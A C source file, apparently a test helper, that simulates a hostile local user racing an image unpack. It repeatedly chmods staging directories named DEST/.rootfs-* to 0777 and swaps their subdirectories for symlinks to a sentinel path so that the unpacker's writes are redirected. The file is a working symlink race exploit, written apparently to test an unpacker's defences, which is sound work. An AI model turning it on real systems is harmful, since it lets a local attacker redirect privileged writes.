/*
 * A second local user racing an unpack. Until STOP exists it keeps trying to enter every staging
 * tree DEST/.rootfs-*, to open one up when the image made it the owner (chmod 0777), and to swap
 * every directory inside for a symlink to SENTINEL, so that whatever the unpack writes next into
 * that directory lands in SENTINEL. Prints "ready" once running, and what it achieved at the end.
 *
 * usage: racer DEST SENTINEL STOP
 */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static long entered, opened, swapped;

static void attack(const char *stage, const char *sentinel) {
  char path[4096], moved[4096];
  if (chmod(stage, 0777) == 0) {
    opened++;
  }
  DIR *s = opendir(stage);
  if (s == NULL) {
    return;
  }
  entered++;
  struct dirent *c;
  while ((c = readdir(s)) != NULL) {
    if (c->d_name[0] == '.' || c->d_type != DT_DIR) {
      continue;
    }
    snprintf(path, sizeof path, "%s/%s", stage, c->d_name);
    snprintf(moved, sizeof moved, "%s/.moved-%ld", stage, swapped);
    if (rename(path, moved) == 0 && symlink(sentinel, path) == 0) {
      swapped++;
    }
  }
  closedir(s);
}

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: racer DEST SENTINEL STOP\n");
    return 2;
  }
  const char *dest = argv[1], *sentinel = argv[2], *stop = argv[3];
  char stage[4096];
  long rounds = 0;
  printf("ready\n");
  fflush(stdout);
  while (access(stop, F_OK) != 0) {
    rounds++;
    DIR *d = opendir(dest);
    if (d == NULL) {
      continue;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      if (strncmp(e->d_name, ".rootfs-", 8) != 0 || strstr(e->d_name, ".lock") != NULL) {
        continue;
      }
      snprintf(stage, sizeof stage, "%s/%s", dest, e->d_name);
      attack(stage, sentinel);
    }
    closedir(d);
  }
  printf("rounds=%ld entered=%ld opened=%ld swapped=%ld\n", rounds, entered, opened, swapped);
  return 0;
}
